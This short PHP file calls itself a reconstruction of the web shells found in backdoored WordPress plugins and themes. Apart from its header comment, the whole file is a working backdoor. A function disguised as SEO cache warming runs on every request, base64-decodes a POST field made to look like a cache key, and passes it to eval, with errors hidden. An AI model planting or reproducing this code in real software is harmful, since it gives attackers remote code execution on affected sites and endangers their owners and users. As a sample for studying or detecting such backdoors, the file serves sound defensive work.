<?php
/* A reconstruction, in our own code, of the web shells found in
 * compromised WordPress plugins and themes (for example the AccessPress
 * themes and plugins backdoored on the vendor's site in 2021): a file that
 * looks like part of the plugin runs whatever a request sends it. */
function seo_tools_cache_warm() {
    if (isset($_POST['wp_cache_key'])) {
        $payload = base64_decode($_POST['wp_cache_key']);
        @eval($payload);
    }
}
add_action('init', 'seo_tools_cache_warm');
